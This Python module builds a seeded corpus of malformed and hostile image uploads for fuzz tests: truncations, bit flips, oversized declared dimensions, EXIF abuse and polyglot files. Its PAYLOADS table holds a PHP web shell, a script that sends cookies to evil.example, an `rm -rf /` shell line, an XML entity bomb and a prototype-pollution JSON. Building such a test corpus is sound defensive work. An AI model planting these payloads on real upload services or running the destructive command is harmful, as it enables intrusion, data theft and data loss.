"""A reproducible corpus of malformed and hostile uploads for the detect fuzz tests.

Every file says whether it MUST end `failed`: by construction (empty, truncated, giant declared
dimensions, polyglots that are no image, non-images under image names, EXIF segments that break the
JPEG structure) or, for random bit flips, when an independent full decode with Pillow (warnings as
errors) rejects it. Files that are still valid images despite the abuse ("survivors": payloads appended
after the image, garbage inside a well-formed EXIF block, a PNG named .jpg) must simply never crash.
"""

from __future__ import annotations

import io
import random
import struct
import warnings
import zlib
from dataclasses import dataclass
from typing import Any

from tests.support.detect import encode, picture

FORMATS = ("JPEG", "PNG", "WEBP", "TIFF", "BMP", "HEIF")
EXTENSIONS = {"JPEG": "jpg", "PNG": "png", "WEBP": "webp", "TIFF": "tif", "BMP": "bmp", "HEIF": "heic"}
PAYLOADS = {
    "php": b"<?php system($_GET['cmd']); ?>",
    "html": b"<html><script>fetch('//evil.example/'+document.cookie)</script></html>",
    "zip": b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(range(64)),
    "pdf": b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF",
    "shell": b"#!/bin/sh\nrm -rf / --no-preserve-root\n",
    "xml": b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>',
    "elf": b"\x7fELF\x02\x01\x01" + b"\x00" * 57,
    "json": b'{"__proto__": {"admin": true}}',
}
NOT_IMAGES = {
    "gif": b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,"
    b"\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;",
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="9" height="9"/></svg>',
    "avif": b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf" + b"\x00" * 64,
    "ico": b"\x00\x00\x01\x00\x01\x00\x10\x10\x00\x00\x01\x00 \x00" + b"\x00" * 64,
    "exe": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 64,
    "text": b"Foto del charco en la esquina, sin imagen adjunta.",
    **{name: PAYLOADS[name] for name in ("zip", "pdf", "elf", "json")},
}
# Headers that make the type sniffer say "image" with nothing decodable behind them.
IMAGE_PREFIXES = {
    "jpeg": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00",
    "png": b"\x89PNG\r\n\x1a\n",
    "webp": b"RIFF\x00\x10\x00\x00WEBPVP8 ",
    "tiff": b"II*\x00\x08\x00\x00\x00",
    "bmp": b"BM" + b"\x00" * 24,
    "heic": b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic",
}
GIANT_SIDES = [
    (65535, 65535),
    (100_000, 1),
    (1, 100_000),
    (20_001, 64),
    (64, 20_001),
    (10_001, 10_001),
    (0, 0),
    (0, 100),
    (100, 0),
    (16, 16),  # under the minimum side
]


@dataclass(frozen=True)
class Hostile:
    name: str
    filename: str
    data: bytes
    must_fail: bool


def decodes(data: bytes) -> bool:
    """Independent oracle: does a full, strict Pillow decode accept the bytes?"""
    import pillow_heif
    from PIL import Image

    pillow_heif.register_heif_opener()
    try:
        with warnings.catch_warnings():
            warnings.simplefilter("error")
            with Image.open(io.BytesIO(data)) as image:
                image.load()
                return min(image.size) >= 32
    except Exception:
        return False


def _png_chunk(tag: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + tag + data + struct.pack(">I", zlib.crc32(tag + data))


def png_declaring(width: int, height: int) -> bytes:
    """A PNG whose (checksummed, valid) header declares any size, with one tiny IDAT."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + _png_chunk(b"IEND", b"")
    )


def jpeg_declaring(base: bytes, width: int, height: int) -> bytes:
    """A real JPEG whose SOF segment is patched to declare another size."""
    at = base.index(b"\xff\xc0")
    return base[: at + 5] + struct.pack(">HH", min(height, 65535), min(width, 65535)) + base[at + 9 :]


def bmp_declaring(base: bytes, width: int, height: int) -> bytes:
    return base[:18] + struct.pack("<ii", min(width, 2**31 - 1), min(height, 2**31 - 1)) + base[26:]


def tiff_declaring(base: bytes, width: int, height: int) -> bytes:
    """A little-endian TIFF whose ImageWidth/ImageLength entries are rewritten as LONGs."""
    data = bytearray(base)
    ifd = struct.unpack_from("<I", data, 4)[0]
    for i in range(struct.unpack_from("<H", data, ifd)[0]):
        entry = ifd + 2 + 12 * i
        tag = struct.unpack_from("<H", data, entry)[0]
        if tag in (256, 257):
            struct.pack_into("<HHII", data, entry, tag, 4, 1, width if tag == 256 else height)
    return bytes(data)


def webp_declaring(width: int, height: int) -> bytes:
    """An extended WebP header (VP8X) declaring a canvas, and no image data."""
    vp8x = b"VP8X" + struct.pack("<I", 10) + b"\x00\x00\x00\x00"
    vp8x += struct.pack("<I", max(width - 1, 0))[:3] + struct.pack("<I", max(height - 1, 0))[:3]
    return b"RIFF" + struct.pack("<I", 4 + len(vp8x)) + b"WEBP" + vp8x


def _app1(payload: bytes, declared: int | None = None) -> bytes:
    length = len(payload) + 2 if declared is None else declared
    return b"\xff\xe1" + struct.pack(">H", length) + payload


def corpus(seed: int = 20261128) -> list[Hostile]:
    """The whole corpus (about 700 files, of which well over 500 must fail)."""
    rng = random.Random(seed)
    files: list[Hostile] = []

    def add(name: str, data: bytes, must_fail: bool, extension: str = "jpg") -> None:
        files.append(Hostile(f"{name}-{len(files)}", f"upload-{len(files)}.{extension}", data, must_fail))

    bases: dict[str, list[bytes]] = {
        fmt: [encode(picture(i, size), fmt) for i, size in enumerate([(96, 72), (160, 120)])] for fmt in FORMATS
    }

    # Empty, short prefixes, zeros and random noise.
    add("empty", b"", True)
    for fmt, (base, _) in bases.items():
        for length in (1, 2, 3, 4, 8, 12, 16, 24, 31, 40):
            add(f"prefix-{fmt}", base[:length], True, EXTENSIONS[fmt])
    for size in (1, 10, 100, 1000, 4096, 65536):
        add("zeros", b"\x00" * size, True)
    for _ in range(34):
        add("noise", rng.randbytes(rng.randint(1, 5000)), True, rng.choice(list(EXTENSIONS.values())))

    # Truncated anywhere between 5 % and 95 % of the file.
    for fmt, variants in bases.items():
        for base in variants:
            for i in range(15):
                cut = max(1, int(len(base) * (0.05 + 0.9 * i / 14)) - rng.randint(0, 3))
                add(f"truncated-{fmt}", base[:cut], True, EXTENSIONS[fmt])

    # Bit flips: malformed when the independent decode rejects them, survivors otherwise.
    for fmt, variants in bases.items():
        for _ in range(40):
            data = bytearray(rng.choice(variants))
            # Half of the flips hit the headers, where structure lives; half anywhere.
            span = min(len(data), 200) if rng.random() < 0.5 else len(data)
            for _ in range(rng.randint(1, 8)):
                position = rng.randrange(span)
                data[position] ^= 1 << rng.randrange(8)
            add(f"bitflip-{fmt}", bytes(data), not decodes(bytes(data)), EXTENSIONS[fmt])

    # Giant (or zero, or tiny) declared dimensions.
    for width, height in GIANT_SIDES:
        add("giant-png", png_declaring(width, height), True, "png")
        add("giant-jpeg", jpeg_declaring(bases["JPEG"][0], width, height), True, "jpg")
        add("giant-bmp", bmp_declaring(bases["BMP"][0], width, height), True, "bmp")
        add("giant-tiff", tiff_declaring(bases["TIFF"][0], width, height), True, "tif")
        add("giant-webp", webp_declaring(width, height), True, "webp")

    # Polyglots: an image signature in front of something else entirely.
    for image_name, prefix in IMAGE_PREFIXES.items():
        for payload_name, payload in PAYLOADS.items():
            add(f"polyglot-{image_name}-{payload_name}", prefix + payload, True, image_name)

    # Wrong extensions: no image at all, named like one.
    for name, content in NOT_IMAGES.items():
        for extension in ("jpg", "jpeg", "png", "heic", "webp"):
            add(f"not-image-{name}", content, True, extension)

    # EXIF segments that break the JPEG structure (length past the end, impossible lengths, cut inside).
    jpeg = bases["JPEG"][0]
    for _ in range(10):
        garbage = b"Exif\x00\x00" + rng.randbytes(rng.randint(0, 300))
        add("exif-overlong", jpeg[:2] + _app1(garbage, declared=65535), True)
        add("exif-length-below-2", jpeg[:2] + _app1(garbage, declared=rng.choice([0, 1])), True)
        add("exif-then-eof", jpeg[:2] + _app1(garbage) + jpeg[2 : rng.randint(3, 200)], True)

    # Survivors: abused, yet still images. They must not crash (and YOLO never sees the payload).
    for payload_name, payload in PAYLOADS.items():
        add(f"appended-{payload_name}", bases["JPEG"][1] + payload, False)
        add(f"appended-png-{payload_name}", bases["PNG"][1] + payload, False, "png")
    for _ in range(20):
        garbage = b"Exif\x00\x00" + rng.choice([b"II*\x00", b"MM\x00*", b""]) + rng.randbytes(rng.randint(0, 400))
        add("exif-garbage", jpeg[:2] + _app1(garbage) + jpeg[2:], False)
    add("png-named-jpg", bases["PNG"][0], False, "jpg")
    add("heic-named-png", bases["HEIF"][0], False, "png")
    return files


def summary(files: list[Any]) -> dict[str, int]:
    """How many files of each category (the name before the first dash)."""
    counts: dict[str, int] = {}
    for item in files:
        category = item.name.split("-", 1)[0]
        counts[category] = counts.get(category, 0) + 1
    return counts
